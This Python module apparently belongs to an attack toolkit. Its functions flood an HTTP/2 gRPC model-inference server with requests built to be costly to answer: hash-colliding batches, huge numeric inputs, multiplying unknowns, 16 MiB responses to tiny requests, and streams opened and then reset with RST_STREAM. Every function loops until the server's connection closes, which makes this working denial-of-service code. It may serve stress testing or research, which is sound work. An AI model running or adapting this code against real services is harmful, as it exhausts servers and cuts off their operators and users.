"""Few bytes that take long to answer."""

from collections.abc import Iterable
from itertools import count, repeat

from attackers.payloads import (
    BATCH,
    INFER,
    MIB,
    MODEL_INFER,
    STATIC,
    STREAM,
    broadcast,
    build_colliding_batch,
    build_hard_question,
    build_linked_batch,
    build_numbers,
    build_odd_strides,
    build_unknown_shape,
    build_wide_batch,
)
from http2 import Connection, Kind, frame, grpc_message

_SMALL_BATCH, _LARGE_BATCH = 110_000, 4 * MIB - 4096
_AT_ONCE = 8
_WHOLE_SECONDS = 300.0


def ask_all(address: str, path: str, messages: Iterable[bytes], *, at_once: int = _AT_ONCE) -> None:
    """Asks one after the other, so many at once."""
    requests = map(grpc_message, messages)
    with Connection(address) as connection:
        while not connection.closed:
            streams = [connection.open(path) for _ in range(at_once)]
            for stream in streams:
                connection.send_data(stream, next(requests), end=True)
            for stream in streams:
                connection.await_end(stream, seconds=_WHOLE_SECONDS)
                connection.bodies.pop(stream, None)


def odd_strides(address: str) -> None:
    """Headers of streams whose strides take long to understand; they are reset when refused or after a while."""
    header = build_odd_strides()
    with Connection(address) as connection:
        while not connection.closed:
            streams = [connection.open(STREAM) for _ in range(60)]
            for stream in streams:
                connection.send_data(stream, header, seconds=1)
            for stream in streams:
                connection.await_end(stream, seconds=0.2)
                connection.send(frame(Kind.RST_STREAM, 0, stream, bytes(4)))


def broadcasts(address: str) -> None:
    """Answers of 16 MiB to requests of some bytes; they are taken."""
    ask_all(address, STATIC, repeat(broadcast(16 * MIB - 64)), at_once=4)


def hard_questions(address: str) -> None:
    """Questions whose unknowns multiply."""
    ask_all(address, INFER, map(build_hard_question, count()), at_once=30)


def unknown_shapes(address: str) -> None:
    """Questions to the model infer_shape, about 60 unknowns and 8 KB long each."""
    ask_all(address, MODEL_INFER, map(build_unknown_shape, count()), at_once=30)


def elements_as_numbers(address: str) -> None:
    """Requests to a model that have a million elements each as numbers, which is as many as are admitted."""
    ask_all(address, MODEL_INFER, repeat(build_numbers(MIB)))


def linked_batches(address: str) -> None:
    """Batches of 110 KB whose items, of 39 bytes each, ask about eight unknowns of the first."""
    ask_all(address, BATCH, repeat(build_linked_batch(_SMALL_BATCH)))


def large_linked_batches(address: str) -> None:
    """Batches of 4 MiB of such items."""
    ask_all(address, BATCH, repeat(build_linked_batch(_LARGE_BATCH)))


def wide_batches(address: str) -> None:
    """Batches of 110 KB whose items have 64 products of unknowns explained."""
    ask_all(address, BATCH, repeat(build_wide_batch(_SMALL_BATCH)))


def large_colliding_batches(address: str) -> None:
    """Batches of 4 MiB of intervals that have one hash."""
    ask_all(address, BATCH, repeat(build_colliding_batch(_LARGE_BATCH)))
